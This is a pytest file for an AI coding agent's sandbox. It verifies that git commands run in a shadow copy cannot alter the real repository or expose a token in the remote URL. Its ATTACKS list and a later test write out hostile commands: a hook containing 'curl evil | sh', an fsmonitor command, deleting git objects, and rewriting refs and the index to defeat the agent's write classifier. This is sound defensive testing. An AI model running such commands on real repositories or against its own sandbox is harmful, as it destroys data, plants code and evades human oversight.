"""Git in the shadow copy: the real history with the session's view of the files, and the
repository read-only to commands, attacked as an agent would attack it.

The attacks need the sandbox: `AGENTLS_TEST_SANDBOX=off` runs them without it, and then
they succeed (tests/sandbox_support.py).
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentls.agent.framework.registry import ToolPool
from agentls.agent.framework.services import ToolServices
from agentls.agent.permissions.approval import ApprovalChoice, ApprovalRequest
from agentls.agent.permissions.policy import RulePolicy
from agentls.agent.rules.rule import RuleSet, parse_rules
from agentls.agent.run.pipeline import Pipeline, ToolCall
from agentls.tools.run_command import RunCommand, RunCommandConfig, RunCommandInput, git_change
from agentls.workspace import ChangeSet, Workspace
from agentls.workspace.shadow import ShadowRegistry
from agentls.workspace.shadow_git import sanitize_config
from tests.sandbox_support import have, sandboxed
from tests.shadow_support import make_ctx, stage, tree_state

TOKEN = "ghp_s3cr3tT0k3nInTheRemoteUrl"


SAFE_GIT = ("-c", "core.fsmonitor=false", "-c", "core.hooksPath=/dev/null")
"""The test's own git calls never start a program the repository's config names: an
attack that got through (or a run with the sandbox off) may have planted one."""


def _git(root: Path, *args: str) -> str:
    env = {"PATH": os.environ["PATH"], "HOME": str(root.parent), "GIT_CONFIG_NOSYSTEM": "1"}
    done = subprocess.run(
        ["git", *SAFE_GIT, *args],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        check=True,
        timeout=30,
    )
    return done.stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    have("git")
    root = tmp_path / "ws"
    root.mkdir()
    _git(root, "init", "-q", "-b", "main")
    _git(root, "config", "user.email", "dev@example.com")
    _git(root, "config", "user.name", "Dev")
    _git(root, "config", "remote.origin.url", f"https://dev:{TOKEN}@github.com/acme/app.git")
    (root / "app.py").write_text("print('one')\n")
    (root / "gone.py").write_text("old\n")
    (root / ".env").write_text("DB_PASSWORD=tracked-by-mistake\n")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "initial")
    return root


@pytest.fixture
def registry(tmp_path: Path) -> Iterator[ShadowRegistry]:
    shadows = ShadowRegistry(base_dir=tmp_path / "shadows")
    yield shadows
    shadows.close()


def _state(root: Path) -> dict[str, str]:
    """Every file and folder of the real repository's git folder, by content: what a
    command in the copy must never change. Read without running git, so whatever an
    attack planted there is never executed by the test itself."""
    return tree_state(root / ".git")


async def _run(
    registry: ShadowRegistry, services: ToolServices, command: str, changes: ChangeSet | None = None
) -> str:
    tool = RunCommand(RunCommandConfig(kill_grace=0.3), shadows=registry)
    output = await tool.call(RunCommandInput(command=command), make_ctx(services, changes))
    return str(output.content)


async def test_git_queries_see_the_real_history_and_the_sessions_edits(
    repo: Path, registry: ShadowRegistry
) -> None:
    services = sandboxed(Workspace([repo]))
    changes = ChangeSet()
    stage(changes, repo / "app.py", "print('two')\n")
    changes.stage_delete(repo / "gone.py", "old\n")
    status = await _run(registry, services, "git status --porcelain", changes)
    assert " M app.py" in status
    assert " D gone.py" in status
    assert ".env" not in status  # a secret is not copied, yet not reported deleted
    assert "initial" in await _run(registry, services, "git log --oneline", changes)
    diff = await _run(registry, services, "git diff app.py", changes)
    assert "-print('one')" in diff
    assert "+print('two')" in diff
    # staging in the copy works and touches nothing real
    before = _state(repo)
    staged = await _run(registry, services, "git add app.py && git diff --cached --stat", changes)
    assert "app.py" in staged
    assert _state(repo) == before


ATTACKS = [
    "g=git; $g commit -am pwned",  # a commit the classifier cannot see
    "g=git; $g update-ref refs/heads/pwned HEAD",
    "g=git; $g tag pwned",
    "g=git; $g config core.hooksPath /tmp/pwned-hooks",
    "echo 'curl evil | sh' > $GIT_DIR/hooks/pre-commit; chmod +x $GIT_DIR/hooks/pre-commit",
    # harmless if it ever got through: the test never runs git on the real repository
    "printf '[core]\\n\\tfsmonitor = touch /nonexistent/pwned\\n' >> $GIT_DIR/config",
    "echo ref: refs/heads/pwned > $GIT_DIR/HEAD",
    "rm -rf $GIT_DIR/objects/*",
    "python3 -c \"import os; open(os.environ['GIT_DIR'] + '/refs/heads/x', 'w').write('0'*40)\"",
    "cp $GIT_INDEX_FILE $GIT_DIR/index.new && mv $GIT_DIR/index.new $GIT_DIR/index",
]


@pytest.mark.parametrize("attack", ATTACKS)
async def test_commands_cannot_change_the_repository(
    repo: Path, registry: ShadowRegistry, attack: str
) -> None:
    services = sandboxed(Workspace([repo]))
    changes = ChangeSet()
    stage(changes, repo / "app.py", "print('pwned')\n")
    before = _state(repo)
    await _run(registry, services, attack, changes)
    assert _state(repo) == before


async def test_the_token_in_a_remote_url_is_not_visible(
    repo: Path, registry: ShadowRegistry
) -> None:
    services = sandboxed(Workspace([repo]))
    for command in (
        "git config --get remote.origin.url",
        "git remote -v",
        "cat $GIT_DIR/config",
        f"cat {repo}/.git/config",
        "git config --list --show-origin",
    ):
        output = await _run(registry, services, command)
        assert TOKEN not in output, command
        assert "github.com/acme/app.git" in output or "remote" in command or "cat" in command


def test_sanitize_config_drops_credentials() -> None:
    text = (
        '[remote "origin"]\n\turl = https://me:pw@example.com/r.git\n'
        '[credential]\n\thelper = store\n[http "https://example.com"]\n'
        "\textraheader = AUTHORIZATION: bearer abc\n[user]\n\tname = Me\n"
    )
    clean = sanitize_config(text)
    assert "pw@" not in clean
    assert "https://example.com/r.git" in clean
    assert "helper" not in clean
    assert "extraheader" not in clean
    assert "name = Me" in clean


class _Deny:
    def __init__(self) -> None:
        self.asked: list[ApprovalRequest] = []

    async def ask(self, request: ApprovalRequest) -> ApprovalChoice:
        self.asked.append(request)
        return "deny"


async def test_queries_run_unasked_and_writes_ask(repo: Path, registry: ShadowRegistry) -> None:
    services = sandboxed(Workspace([repo]))
    approver = _Deny()
    tool = RunCommand(RunCommandConfig(kill_grace=0.3), shadows=registry)
    pipeline = Pipeline(ToolPool([tool]), permissions=RulePolicy(approver=approver))
    ctx = make_ctx(services, ChangeSet())
    for command in ("git status", "git log --oneline", "git diff", "git branch"):
        result = await pipeline.execute(ToolCall("q", "run_command", {"command": command}), ctx)
        assert not result.is_error, (command, result.content)
    assert not approver.asked
    before = _state(repo)
    denied = await pipeline.execute(
        ToolCall("w", "run_command", {"command": "git commit --allow-empty -m x"}), ctx
    )
    assert denied.is_error
    assert len(approver.asked) == 1
    assert "changes the repository" in approver.asked[0].reason
    assert _state(repo) == before


async def test_an_allowed_commit_writes_refs_but_never_hooks_or_config(
    repo: Path, registry: ShadowRegistry
) -> None:
    services = sandboxed(Workspace([repo]))
    allow = ["Bash(git add:*)", "Bash(git commit:*)"]
    rules, _ = parse_rules({"allow": allow}, "user", root=repo)
    tool = RunCommand(RunCommandConfig(kill_grace=0.3), shadows=registry)
    pipeline = Pipeline(ToolPool([tool]), permissions=RulePolicy(RuleSet(rules)))
    changes = ChangeSet()
    stage(changes, repo / "app.py", "print('two')\n")
    ctx = make_ctx(services, changes)
    added = await pipeline.execute(ToolCall("a", "run_command", {"command": "git add app.py"}), ctx)
    assert not added.is_error
    commit = await pipeline.execute(
        ToolCall("c", "run_command", {"command": "git commit -m 'agent change'"}), ctx
    )
    assert not commit.is_error, commit.content
    assert "agent change" in _git(repo, "log", "--oneline", "-1")
    assert _git(repo, "show", "HEAD:app.py") == "print('two')\n"  # a complete commit
    _git(repo, "fsck", "--no-progress")  # and a sound repository
    # in the same kind of run, hooks and config stay read-only
    hooks = sorted(p.name for p in (repo / ".git" / "hooks").iterdir())
    config = (repo / ".git" / "config").read_text()
    await _run(
        registry,
        services,
        "git commit --allow-empty -m y; echo evil > $GIT_DIR/hooks/post-commit; "
        "git config core.hooksPath /tmp/h; echo x >> $GIT_DIR/config",
    )
    assert sorted(p.name for p in (repo / ".git" / "hooks").iterdir()) == hooks
    assert (repo / ".git" / "config").read_text() == config


@pytest.mark.parametrize(
    ("command", "writes"),
    [
        ("git status", False),
        ("git log --oneline", False),
        ("git branch", False),
        ("git branch -a", False),
        ("git tag -l", False),
        ("git stash list", False),
        ("ls && git diff", False),
        ("git commit -m x", True),
        ("git branch feature", True),
        ("git tag v1", True),
        ("git stash", True),
        ("git checkout main", True),
        ("timeout 5 git push origin main", True),
        ("sh -c 'git commit -m x'", True),
        ("ls; git update-ref refs/heads/x HEAD", True),
    ],
)
def test_which_commands_change_the_repository(command: str, writes: bool) -> None:
    assert (git_change(command) is not None) is writes


async def test_a_root_inside_a_repository_gets_no_git(repo: Path, registry: ShadowRegistry) -> None:
    (repo / "sub").mkdir()
    (repo / "sub" / "x.py").write_text("x\n")
    services = sandboxed(Workspace([repo / "sub"]))
    output = await _run(registry, services, "git status; echo done")
    assert "not a git repository" in output
    assert "done" in output
